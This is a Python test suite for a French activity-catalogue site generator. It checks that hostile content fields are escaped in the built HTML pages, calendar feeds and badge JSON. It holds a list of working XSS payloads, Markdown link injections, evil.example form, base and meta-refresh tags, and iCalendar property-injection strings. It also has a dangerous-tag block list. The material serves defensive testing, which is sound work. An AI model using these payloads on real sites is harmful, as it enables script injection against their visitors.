"""Hostile text in every field never becomes code in the pages, the feeds or the JSON (issue 9).

One hostile content tree holds, for each payload, a structure with two places, an activity
with one-off sessions and a series (cancellation reasons, change reasons), a badge, and
vocabulary terms, every text field set to the payload; Markdown bodies add link and raw HTML
payloads. The same tree with harmless text is the baseline: the hostile build may not have
one dangerous element, one handler or one calendar property more than the baseline.
"""

from __future__ import annotations

import html
import json
import os
import re
import subprocess
import sys
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import pytest

from fixtures import SVG, write_tree

ROOT = Path(__file__).parents[1]
EPOCH = "1795564800"  # 2026-11-25: the sessions below are upcoming, some within the home page's week

PAYLOADS = [
    "<script>alert('xss-0')</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '"><script>alert(2)</script>',
    "'><img src=x onerror=alert(3)>",
    '<img src="x" onerror="alert(4)">',
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(7)>",
    '<a href="javascript:alert(8)">clic</a>',
    '<a href="JaVaScRiPt:alert(9)">clic</a>',
    '<a href="&#106;avascript:alert(10)">clic</a>',
    '<a href="jav&#x09;ascript:alert(11)">clic</a>',
    '<a href=" javascript:alert(12)">clic</a>',
    '<a href="vbscript:msgbox(13)">clic</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=">clic</a>',
    '<iframe src="javascript:alert(15)"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name="p"><button>ok</button></form>',
    '<div style="background:url(javascript:alert(18))">x</div>',
    "</script><script>alert(19)</script>",
    "<!--<script>alert(20)</script>-->",
    "<img src=x onerror=alert(21)//",
    "<<script>alert(22);//<</script>",
    "%3Cscript%3Ealert(23)%3C%2Fscript%3E",
    "&lt;script&gt;alert(24)&lt;/script&gt;",
    "<body onload=alert(25)>",
    "<details open ontoggle=alert(26)>",
    "]]><![CDATA[<script>alert(27)</script>]]>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "{{ 7*7 }} {% raw %} ${7*7}",
    "Titre\r\nATTENDEE:mailto:x@example.org",
    "a;b,c\\d:e\nDESCRIPTION:injecté;X-EVIL=1",
    "RTL zéro\u200dlargeur 🎉 </ScRiPt >",  # bidi controls and zero-width spaces are refused: test_security_limits.py
]

# Raw Markdown: links and images with dangerous schemes, reference links, raw HTML blocks.
MARKDOWN = """
[lien javascript](javascript:alert('md-1'))

[lien casse](JaVaScRiPt:alert('md-2'))

[lien vbscript](vbscript:msgbox('md-3'))

[lien data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

![image](javascript:alert('md-5'))

![image data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)

[reference][ref]

[ref]: javascript:alert('md-7')

<a href="https://evil.example/markdown-link" onclick="alert('md-8')" target="_blank" style="color:red">lien externe</a>

[lien ordinaire](https://evil.example/markdown-link)

<p style="position:fixed" onmouseover="alert('md-10')">paragraphe</p>

<script>alert('md-11')</script>

<iframe src="https://evil.example/"></iframe>

<svg><a xlink:href="javascript:alert('md-13')"><text>svg</text></a></svg>

<math><maction actiontype="statusline" xlink:href="javascript:alert('md-14')">math</maction></math>

<table><tr><td onclick="alert('md-15')">cellule</td></tr></table>

<img src=x onerror=alert('md-16')>
"""

# A valid address (the model refuses other schemes) that tries to leave its attribute.
HOSTILE_URL = "https://evil.example/x'onmouseover='alert(1)'/\u00e9?a=1&b='2'#`x`"

# Elements and attributes that must never come from content.
DANGEROUS_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
                  "textarea", "select", "svg", "math", "style", "link", "meta", "base", "img", "video", "audio",
                  "source", "template", "details", "body", "html", "head", "title", "noscript"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "background", "data", "srcset", "cite", "ping"}
BAD_SCHEME = re.compile(r"^(?:javascript|vbscript|data):", re.IGNORECASE)


def _q(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML)."""
    return json.dumps(text, ensure_ascii=False)


def content_tree(texts: list[str], markdown: str, url: str) -> dict[str, str]:
    """Files of a tree with one structure, activity and badge per text."""
    files: dict[str, str] = {}
    communes = "".join(f"      commune-{i}:\n        nom: {_q(t)}\n        quartiers_prioritaires:\n          quartier-{i}: {_q(t)}\n" for i, t in enumerate(texts))
    categories = "".join(f"  cat-{i}:\n    nom: {_q(t)}\n    description: {_q(t)}\n" for i, t in enumerate(texts))
    audiences = "".join(f"  public-{i}:\n    nom: {_q(t)}\n    description: {_q(t)}\n" for i, t in enumerate(texts))
    files["vocabulaire.yml"] = (
        f"territoires:\n  caen-la-mer:\n    nom: {_q(texts[0])}\n    communes:\n      caen:\n        nom: Caen\n{communes}"
        f"categories:\n  fablab:\n    nom: Fablab\n{categories}"
        f"publics:\n  tout-public:\n    nom: Tout public\n{audiences}"
    )
    for i, t in enumerate(texts):
        q = _q(t)
        files[f"structures/hostile-{i}.md"] = f"""---
nom: {q}
role: membre-consortium
type: {q}
description_courte: {q}
site_web: {_q(url)}
contact:
  telephone: "02 31 06 60 50"
  email: contact@exemple.fr
lieux:
  - id: lieu-{i}-a
    nom: {q}
    adresse: {q}
    code_postal: "14000"
    commune: commune-{i}
    quartier: quartier-{i}
    horaires: {q}
    transports: {q}
    accessibilite:
      fauteuil: true
      description: {q}
  - id: lieu-{i}-b
    nom: {q}
    adresse: {q}
    code_postal: "14000"
    commune: caen
    accessibilite:
      fauteuil: false
      description: {q}
---
{t}

{markdown}
"""
        files[f"activities/hostile-{i}/activite-{i}.md"] = f"""---
titre: {q}
structure: hostile-{i}
lieu: lieu-{i}-a
categories: [fablab, cat-{i}]
publics: [tout-public, public-{i}]
gratuit: false
tarif: {q}
inscription: appeler
a_apporter: {q}
resume_facile: {q}
badges: [badge-{i}]
seances:
  - date: 2026-11-26
    debut: "10:00"
    fin: "11:00"
  - date: 2026-11-27
    debut: "10:00"
    fin: "11:00"
    annulation: {q}
  - date: 2026-11-28
    debut: "10:00"
    fin: "11:00"
    changement:
      debut: "15:00"
      fin: "16:00"
      lieu: lieu-{i}-b
      motif: {q}
  - chaque: jeudi
    du: 2026-12-03
    au: 2027-01-28
    debut: "14:00"
    fin: "16:00"
    annulations:
      - date: 2026-12-10
        motif: {q}
    changements:
      - date: 2026-12-17
        lieu: lieu-{i}-b
        motif: {q}
---
{t}

{markdown}
"""
        files[f"badges/badge-{i}.md"] = f"""---
nom: {q}
reconnait: {q}
criteres:
  - {q}
  - {q}
structure: hostile-{i}
image: images/badge-{i}.svg
categorie: cat-{i}
alignements:
  - referentiel: ROME
    code: {q}
    intitule: {q}
    url: {_q(url)}
pour_les_employeurs: {q}
---
{t}

{markdown}
"""
        files[f"badges/images/badge-{i}.svg"] = SVG.replace("<title>Fabriquer</title>", f"<title>{html.escape(t)}</title>")
    return files


def build(root: Path, output: Path) -> subprocess.Popen:
    env = {**os.environ, "PYTHONPATH": str(ROOT / "plugins"), "SOURCE_DATE_EPOCH": EPOCH}
    return subprocess.Popen(
        [sys.executable, "-m", "catalogue", "--root", str(root), "build", "--output", str(output), "--settings", str(ROOT / "pelicanconf.py")],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, cwd=ROOT,
    )


def prepare(root: Path, files: dict[str, str]) -> Path:
    gone = dict.fromkeys(("structures/le-dome.md", "activities/le-dome/fablab-ouvert.md", "badges/fabriquer.md"))
    write_tree(root, "small", repo=["content"], files={**files, **gone})  # free pages: a symlink out of the repository is refused
    (root / "theme").symlink_to(ROOT / "theme")
    return root


class Sites:
    def __init__(self, hostile: Path, baseline: Path, stderr: str):
        self.hostile, self.baseline, self.stderr = hostile, baseline, stderr

    def files(self, suffix: str) -> list[Path]:
        return sorted(p for p in self.hostile.rglob(f"*{suffix}") if p.is_file())


@pytest.fixture(scope="module")
def sites(tmp_path_factory) -> Sites:
    base = tmp_path_factory.mktemp("hostile")
    safe_texts = [f"Texte ordinaire numéro {i}" for i in range(len(PAYLOADS))]
    hostile = prepare(base / "hostile", content_tree(PAYLOADS, MARKDOWN, HOSTILE_URL))
    baseline = prepare(base / "baseline", content_tree(safe_texts, "Un paragraphe ordinaire.", "https://exemple.fr/page"))
    runs = [build(hostile, base / "out-hostile"), build(baseline, base / "out-baseline")]
    results = [run.communicate(timeout=300) for run in runs]
    for run, (out, err) in zip(runs, results):
        assert run.returncode == 0, f"build failed ({run.returncode})\n{err}\n{out}"
        assert "Traceback" not in err
    return Sites(base / "out-hostile", base / "out-baseline", results[0][1])


# ---- HTML ----------------------------------------------------------------------------------------


class Page(HTMLParser):
    """Elements, attributes, text and raw script contents of one HTML page."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.texts: list[str] = []
        self.scripts: list[tuple[dict, str]] = []
        self._script: dict | None = None
        self._script_text: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))
        if tag == "script":
            self._script, self._script_text = dict(attrs), []

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            self.scripts.append((self._script, "".join(self._script_text)))
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self._script_text.append(data)
        else:
            self.texts.append(data)

    @property
    def text(self) -> str:
        return normal(" ".join(self.texts))

    def count(self, tags) -> Counter:
        return Counter(tag for tag, _ in self.elements if tag in tags)


def normal(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


def test_hostile_site_builds(sites):
    assert len(sites.files(".html")) > 4 * len(PAYLOADS)


def test_no_script_handler_style_or_dangerous_url_from_content(sites):
    problems = []
    for path in sites.files(".html"):
        relative = path.relative_to(sites.hostile)
        page = Page(path.read_text(encoding="utf-8"))
        baseline_path = sites.baseline / relative
        baseline = Page(baseline_path.read_text(encoding="utf-8")) if baseline_path.is_file() else None
        theme_urls = {(tag, name, value) for tag, attrs in (baseline.elements if baseline else []) for name, value in attrs}
        for tag, attrs in page.elements:
            for name, value in attrs:
                value = value or ""
                if name.startswith("on"):
                    problems.append(f"{relative}: <{tag} {name}=…>")
                if name == "style":
                    problems.append(f"{relative}: <{tag} style=…>")
                cleaned = re.sub(r"[\x00-\x20]", "", value)
                # The theme's own (same element with harmless text, e.g. an empty favicon `data:,`) is not content.
                if name in URL_ATTRIBUTES and BAD_SCHEME.match(cleaned) and (tag, name, value) not in theme_urls:
                    problems.append(f"{relative}: <{tag} {name}={value[:60]!r}>")
        own_scripts = [dict(attrs) for tag, attrs in (baseline.elements if baseline else []) if tag == "script"]
        for attrs, text in page.scripts:
            src = attrs.get("src") or ""
            own = src and not re.match(r"^(?:[a-z][a-z0-9+.-]*:|//)", src, re.IGNORECASE) and not text.strip() and attrs in own_scripts
            if "json" not in attrs.get("type", "") and not own:
                problems.append(f"{relative}: <script> that is neither a JSON island nor the site's own file: {attrs} {text[:80]!r}")
        if baseline:
            expected, found = baseline.count(DANGEROUS_TAGS), page.count(DANGEROUS_TAGS)
            if found != expected:
                problems.append(f"{relative}: elements {dict(found - expected)} more, {dict(expected - found)} fewer than with harmless text")
    assert not problems, "\n".join(problems[:40])


def test_raw_payloads_never_appear_unescaped(sites):
    risky = [p for p in PAYLOADS if "<" in p]
    problems = []
    for path in sites.files(".html"):
        raw = path.read_text(encoding="utf-8")
        problems += [f"{path.relative_to(sites.hostile)}: {p!r}" for p in risky if p in raw]
    assert not problems, "\n".join(problems[:40])


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_plain_text_is_shown_as_text(sites, index):
    """Escaped, not removed: a visitor reads exactly what the partner typed."""
    payload = normal(PAYLOADS[index])
    pages = {
        "activity": sites.hostile / f"activites/activite-{index}/index.html",
        "structure": sites.hostile / f"structures/hostile-{index}/index.html",
        "badge": sites.hostile / f"badges/badge-{index}/index.html",
    }
    for kind, path in pages.items():
        assert path.is_file(), f"no {kind} page {path}"
        assert payload in Page(path.read_text(encoding="utf-8")).text, f"{kind} page does not show {payload!r} as text"


def test_markdown_links_are_sanitised(sites):
    page = Page((sites.hostile / "activites/activite-0/index.html").read_text(encoding="utf-8"))
    links = [dict(attrs) for tag, attrs in page.elements if tag == "a" and dict(attrs).get("href", "").startswith("https://evil.example/markdown-link")]
    assert len(links) == 2, links
    for link in links:
        assert set((link.get("rel") or "").split()) >= {"noopener", "noreferrer"}, link
        assert "onclick" not in link and "style" not in link
    assert "lien javascript" in page.text and "cellule" in page.text  # the text stays, the code goes


def test_json_islands_cannot_be_closed(sites):
    for path in sites.files(".html"):
        raw = path.read_text(encoding="utf-8")
        for attrs, text in Page(raw).scripts:
            if "json" in attrs.get("type", ""):
                assert "</script" not in text.lower() and "<!--" not in text, f"{path}: JSON island holds </script or <!--"
                json.loads(text)


def test_every_page_has_the_csp_meta(sites):
    for path in sites.files(".html"):
        metas = [dict(attrs) for tag, attrs in Page(path.read_text(encoding="utf-8")).elements if tag == "meta"]
        csp = [m for m in metas if (m.get("http-equiv") or "").lower() == "content-security-policy"]
        assert len(csp) == 1, f"{path}: {len(csp)} CSP meta tags"


# ---- feeds and JSON ------------------------------------------------------------------------------


def _unfold(raw: str) -> list[str]:
    return re.sub(r"\r\n[ \t]", "", raw).split("\r\n")


def _events(ics: Path) -> dict[str, list[str]]:
    """UID -> names of the properties of that VEVENT, in order, read from the unfolded lines."""
    events, current, names = {}, None, []
    for line in _unfold(ics.read_bytes().decode("utf-8")):
        if line == "BEGIN:VEVENT":
            current, names = "", []
        elif line == "END:VEVENT":
            events[current] = names
            current = None
        elif current is not None:
            name = re.match(r"[A-Za-z0-9-]+", line).group(0).upper()
            names.append(name)
            if name == "UID":
                current = line.split(":", 1)[1]
    return events


def test_feeds_keep_each_title_in_one_summary(sites):
    import icalendar

    feeds = sites.files(".ics")
    assert feeds, "no .ics file built"
    checked = 0
    for path in feeds:
        relative = path.relative_to(sites.hostile)
        calendar = icalendar.Calendar.from_ical(path.read_bytes())
        baseline_path = sites.baseline / relative
        baseline = _events(baseline_path) if baseline_path.is_file() else {}
        for uid, names in _events(path).items():
            match = re.match(r"activite-(\d+)-", uid)
            if not match:
                continue
            assert names.count("SUMMARY") == 1, f"{relative} {uid}: {names}"
            assert not {"ATTENDEE", "X-EVIL"} & set(names), f"{relative} {uid}: {names}"
            if uid in baseline:
                assert sorted(names) == sorted(baseline[uid]), f"{relative} {uid}: {names} != {baseline[uid]}"
            checked += 1
        for event in calendar.walk("VEVENT"):
            match = re.match(r"activite-(\d+)-", str(event.get("UID")))
            if match:
                summary = event.get("SUMMARY")
                assert not isinstance(summary, list), f"{relative}: several SUMMARY"
                assert normal(str(summary)).endswith(normal(PAYLOADS[int(match.group(1))])), (relative, str(summary))
    assert checked >= len(PAYLOADS)


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for item in value.values() for s in _strings(item)]
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]
    return []


def test_badge_json_round_trips(sites):
    documents = sites.files(".json")
    assert documents, "no JSON file built"
    checked = 0
    for path in documents:
        strings = [normal(s) for s in _strings(json.loads(path.read_text(encoding="utf-8")))]
        match = re.search(r"/badges/badge-(\d+)/", path.as_posix())
        if match:
            payload = normal(PAYLOADS[int(match.group(1))])
            assert payload in strings, f"{path.relative_to(sites.hostile)} does not hold {payload!r} as a string"
            checked += 1
    assert checked >= len(PAYLOADS)
